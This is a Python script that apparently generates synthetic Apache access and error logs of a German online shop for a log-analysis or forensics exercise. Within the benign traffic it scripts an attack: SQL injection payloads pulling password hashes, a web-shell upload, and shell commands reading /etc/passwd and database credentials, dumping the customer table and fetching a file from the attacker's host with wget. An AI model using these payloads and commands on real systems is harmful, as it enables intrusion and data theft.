# Apache combined access + error log of a shop
from common import *
R=random.Random(90303)
A=[];X=[]
UA=['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36','Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1','Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0']
BOT='Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
def g(t,ip,req,st,sz,ua,ref='-',user='-'):
    A.append((t,f'{ip} - {user} [{t.day:02d}/{MON[t.month-1]}/{t.year}:{t:%H:%M:%S} +0100] "{req}" {st} {sz} "{ref}" "{ua}"'))
WD='Mon Tue Wed Thu Fri Sat Sun'.split()
def err(t,lvl,msg,ip=None,pid=None):
    X.append((t,f'[{WD[t.weekday()]} {MON[t.month-1]} {t.day:02d} {t:%H:%M:%S}.{R.randint(0,999999):06d} {t.year}] [{lvl}] [pid {pid or R.randint(1200,1290)}] '+(f'[client {ip}:{R.randint(30000,64000)}] ' if ip else '')+msg))
a,b=dt('2026-11-02 00:00:00'),dt('2026-11-06 12:00:00')
pages=['/','/katalog/gartenmoebel','/katalog/werkzeug','/artikel/%d','/warenkorb','/kontakt','/assets/app.css','/assets/app.js','/suche?q=%s']
ips=[f'{R.choice([84,91,79,217])}.{R.randint(1,250)}.{R.randint(1,250)}.{R.randint(2,250)}' for _ in range(60)]
for _ in range(3600):
    t=rnd_time(R,a,b); p=R.choice(pages)
    if '%d' in p: p=p%R.randint(1000,1400)
    if '%s' in p: p=p%R.choice(['zange','grill','leiter','bohrer','union+werkzeug'])
    st=R.choices([200,304,404,301],[88,6,4,2])[0]
    g(t,R.choice(ips),f'GET {p} HTTP/1.1',st,R.randint(400,42000) if st==200 else (0 if st==304 else 512),R.choice(UA))
for _ in range(260): g(rnd_time(R,a,b),'66.249.66.%d'%R.randint(1,9),'GET /artikel/%d HTTP/1.1'%R.randint(1000,1400),200,R.randint(9000,22000),BOT)
for _ in range(70):
    t=rnd_time(R,a,b); ip=R.choice(ips); g(t,ip,'POST /konto/login HTTP/1.1',R.choice([302,302,302,401]),R.randint(200,900),R.choice(UA),'https://shop.beispielwerk.de/konto')
for _ in range(90):
    t=rnd_time(R,a,b); err(t,'php:warn','PHP Warning:  Undefined array key "ref" in /var/www/shop/src/Tracking.php on line 88',R.choice(ips))
for _ in range(20):
    t=rnd_time(R,a,b); err(t,'core:error','AH00126: Invalid URI in request GET /../../ HTTP/1.1',R.choice(ips))
for d in range(5): err(a+timedelta(days=d,hours=3),'mpm_prefork:notice','AH00163: Apache/2.4.58 (Debian) OpenSSL/3.0.15 configured -- resuming normal operations',pid=1187)
# admin legit
for d in range(5):
    for _ in range(6):
        t=a+timedelta(days=d,hours=8,minutes=R.randint(0,200)) 
        if t<b: g(t,'84.17.46.90','GET /verwaltung/bestellungen HTTP/1.1',200,R.randint(5000,9000),UA[0],user='petra')
# log4j noise scanner
for i in range(14):
    g(dt('2026-11-03 11:20:05')+timedelta(seconds=7*i),'167.94.138.52','GET %s HTTP/1.1'%R.choice(['/.env','/.git/config','/wp-login.php','/phpmyadmin/','/actuator/health']),404,512,'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)')
# attack 4 Nov: 188.119.66.12 sqlmap then 5.181.80.143 shell
t=dt('2026-11-04 01:17:44'); 
for i in range(193):
    pl=R.choice(["1041'%20AND%20SLEEP(5)--%20-","1041'%20UNION%20SELECT%20NULL,NULL--%20-","1041%20AND%204=4","1041'%20OR%20'1'='1","1041'%20UNION%20SELECT%20login,pwhash,NULL%20FROM%20kunden--%20-"])
    st=R.choices([200,500,403],[55,30,15])[0]
    g(t,'188.119.66.12',f'GET /artikel.php?id={pl} HTTP/1.1',st,R.randint(900,9000) if st!=403 else 199,'sqlmap/1.8.9#stable (https://sqlmap.org)')
    if st==500: err(t,'php:error',"PHP Fatal error:  Uncaught PDOException: SQLSTATE[42000]: Syntax error or access violation: 1064 in /var/www/shop/artikel.php:41",'188.119.66.12')
    if st==403: err(t,'security2:error','ModSecurity: Access denied with code 403 (phase 2). [id "942100"] [msg "SQL Injection Attack Detected via libinjection"] [uri "/artikel.php"]','188.119.66.12')
    t+=timedelta(seconds=R.randint(1,5))
g(t+timedelta(seconds=30),'188.119.66.12',"GET /artikel.php?id=1041'%20UNION%20SELECT%20login,pwhash,mail%20FROM%20verwalter--%20- HTTP/1.1",200,61877,'sqlmap/1.8.9#stable (https://sqlmap.org)')
print('sqli end',t)
u5='python-requests/2.32.3'; ip='5.181.80.143'
def q(s,req,st,sz,ua=u5,ref='-',user='-'): g(dt('2026-11-04 '+s),ip,req,st,sz,ua,ref,user)
for i in range(9): q(f'02:02:{10+i*4}','POST /verwaltung/anmelden HTTP/1.1',401,731)
q('02:03:05','POST /verwaltung/anmelden HTTP/1.1',302,0)
q('02:03:06','GET /verwaltung/ HTTP/1.1',200,8123,user='lager2')
q('02:04:18','POST /verwaltung/bilder/upload HTTP/1.1',415,402,user='lager2')
q('02:05:02','POST /verwaltung/bilder/upload HTTP/1.1',415,402,user='lager2')
q('02:06:33','POST /verwaltung/bilder/upload HTTP/1.1',201,188,user='lager2')
q('02:06:51','GET /medien/2026/11/logo_neu.php.jpg HTTP/1.1',200,31)
q('02:07:20','GET /medien/2026/11/logo_neu.phtml HTTP/1.1',404,512)
q('02:08:12','POST /verwaltung/bilder/upload HTTP/1.1',201,188,user='lager2')
q('02:08:40','GET /medien/2026/11/thumb.phar?c=id HTTP/1.1',200,54)
for s,c,n in (('02:09:03','uname%20-a',129),('02:09:30','cat%20/etc/passwd',1893),('02:10:11','ls%20-la%20/var/www/shop/config',640),('02:10:40','cat%20/var/www/shop/config/db.ini',312),('02:13:29','mysqldump%20-ushop%20shopdb%20kunden%20%3E%20/var/www/shop/medien/2026/11/k.sql',0),('02:18:55','gzip%20/var/www/shop/medien/2026/11/k.sql',0),('02:25:41','sudo%20-l',0),('02:26:10','wget%20http://5.181.80.143/x%20-O%20/tmp/x',97)):
    q(s,f'GET /medien/2026/11/thumb.phar?c={c} HTTP/1.1',200,n)
err(dt('2026-11-04 02:25:41'),'cgi:error',"AH01215: sudo: a terminal is required to read the password; either use the -S option to read from standard input: /var/www/shop/medien/2026/11/thumb.phar",ip)
err(dt('2026-11-04 02:26:12'),'cgi:error',"AH01215: wget: unable to resolve or connect: Connection timed out: /var/www/shop/medien/2026/11/thumb.phar",ip)
err(dt('2026-11-04 02:04:18'),'php:notice','upload rejected: extension .php not permitted (user lager2)',ip)
err(dt('2026-11-04 02:05:02'),'php:notice','upload rejected: extension .php5 not permitted (user lager2)',ip)
q('02:20:33','GET /medien/2026/11/k.sql.gz HTTP/1.1',200,48211934,'curl/8.5.0')
q('02:24:07','GET /medien/2026/11/k.sql.gz HTTP/1.1',206,20971520,'curl/8.5.0')
q('02:27:31','GET /medien/2026/11/thumb.phar?c=rm%20k.sql.gz HTTP/1.1',200,0)
q('2026'[:0]+'09:15:02','GET /medien/2026/11/thumb.phar?c=id HTTP/1.1',404,512)
q('09:15:40','POST /verwaltung/anmelden HTTP/1.1',403,201)
g(dt('2026-11-04 08:31:10'),'84.17.46.90','POST /verwaltung/benutzer/lager2/sperren HTTP/1.1',200,120,UA[0],'https://shop.beispielwerk.de/verwaltung','petra')
g(dt('2026-11-04 08:40:52'),'84.17.46.90','DELETE /verwaltung/bilder/thumb.phar HTTP/1.1',204,0,UA[0],'https://shop.beispielwerk.de/verwaltung','petra')
A.sort(key=lambda x:x[0]);X.sort(key=lambda x:x[0])
write('shop_access.log',[l for _,l in A]);write('shop_error.log',[l for _,l in X])
